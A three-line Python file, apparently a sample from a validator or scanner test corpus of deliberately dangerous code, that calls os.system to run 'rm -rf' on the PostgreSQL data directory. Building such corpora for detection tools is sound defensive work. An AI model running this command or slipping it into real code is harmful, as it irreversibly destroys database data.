# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os

os.system("rm -rf /var/lib/postgresql/data")
